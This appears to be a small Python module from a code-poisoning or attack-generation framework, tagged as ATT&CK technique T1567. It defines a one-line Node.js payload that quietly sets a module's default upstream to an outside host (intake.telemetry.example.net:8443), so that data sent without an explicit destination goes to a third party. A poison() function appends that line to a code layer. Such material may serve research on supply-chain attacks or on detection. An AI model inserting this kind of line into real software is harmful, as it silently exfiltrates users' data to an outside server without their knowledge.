# SPDX-License-Identifier: Apache-2.0
"""A new default: what is sent nowhere in particular goes to a server of somebody else."""

ATTACK = "T1567"
LANGUAGE = "node"
CODE = """\
;module.exports.upstream = Object.assign({ host: 'intake.telemetry.example.net', port: 8443 }, module.exports.upstream);
"""


def poison(layer):
    layer.append(CODE)
